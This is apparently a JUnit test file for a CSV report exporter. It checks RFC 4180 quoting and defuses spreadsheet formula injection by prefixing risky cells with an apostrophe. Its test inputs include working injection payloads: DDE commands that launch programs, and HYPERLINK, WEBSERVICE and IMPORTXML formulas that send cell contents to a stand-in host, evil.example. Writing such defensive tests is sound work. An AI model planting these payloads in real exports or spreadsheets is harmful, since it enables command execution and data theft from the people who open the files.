package org.samtal.web.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.samtal.web.report.ReportCell.Count;
import org.samtal.web.report.ReportCell.Day;
import org.samtal.web.report.ReportCell.Text;
import org.samtal.web.report.ReportCell.Time;

/** RFC 4180, and nothing that a spreadsheet would run (S83). */
class CsvTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
                "=WEBSERVICE(\"https://evil.example\")",
                "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")",
                "@import(\"x\")",
                "+cmd|' /C notepad'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tword",
                "\rword",
                " =1+1",
                "   +1",
                "\u00A0=1+1",
                "\u200B=1+1",
                "\uFEFF=1+1",
                "\u2003@x",
                "\uFF1D1+1",
                "\uFF0B1+1",
                "\uFF0D1+1",
                "\uFF20SUM(A1)",
                " \uFF1D1+1",
                "=\"a\"&\"b\"",
                "=1+1\r\n=2+2",
                "-",
                "=",
                "@",
                "+46 70 123 45 67"
            })
    void s83CellsThatBeginLikeAFormulaShouldGetAnApostrophe(String payload) {
        assertEquals("'" + payload, Csv.harmless(payload));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Elin Sandberg", "a=b", "1-2", "ada@nordvik.example", "", "'=1+1", "Åsa-Lill"})
    void s83OrdinaryWordsShouldStayAsTheyAre(String words) {
        assertEquals(words, Csv.harmless(words));
    }

    @Test
    void s83NoCellOfAFileShouldBeginAFormula() {
        var file = Csv.of(new ReportTable(
                "replies", List.of("Person"), List.of(List.of(new Text("=1+1,\"x\"")), List.of(new Text("@SUM(A1)")))));

        assertTrue(file.contains("\"'=1+1,\"\"x\"\"\"\r\n"));
        assertTrue(file.contains("\r\n'@SUM(A1)\r\n"));
    }

    @Test
    void linesShouldEndAsTheStandardSays() {
        var file = Csv.of(table());

        assertEquals(
                "\uFEFFPerson,Day,Replies,Median\r\n"
                        + "\"Berg, Helena\",2026-06-08,1822,26:03:09\r\n"
                        + "Bo Ek,2026-06-07,0,\r\n",
                file);
    }

    @Test
    void quotesAndLineBreaksShouldBeKeptInsideQuotes() {
        var file = Csv.of(new ReportTable("t", List.of("A"), List.of(List.of(new Text("Bo \"the\r\nbear\" Ek")))));

        assertTrue(file.endsWith("\"Bo \"\"the\r\nbear\"\" Ek\"\r\n"));
    }

    @Test
    void figuresShouldNotDependOnTheLanguage() {
        assertEquals("1822", new Count(1822).csv());
        assertEquals("0:00:09", new Time(Optional.of(Duration.ofSeconds(9))).csv());
        assertEquals("2026-06-08", new Day(LocalDate.parse("2026-06-08")).csv());
        assertFalse(new Text("Elin").isFigure());
    }

    private static ReportTable table() {
        return new ReportTable(
                "t",
                List.of("Person", "Day", "Replies", "Median"),
                List.of(
                        List.of(
                                new Text("Berg, Helena"),
                                new Day(LocalDate.parse("2026-06-08")),
                                new Count(1822),
                                new Time(Optional.of(Duration.ofHours(26).plusSeconds(189)))),
                        List.of(
                                new Text("Bo Ek"),
                                new Day(LocalDate.parse("2026-06-07")),
                                new Count(0),
                                new Time(Optional.empty()))));
    }
}
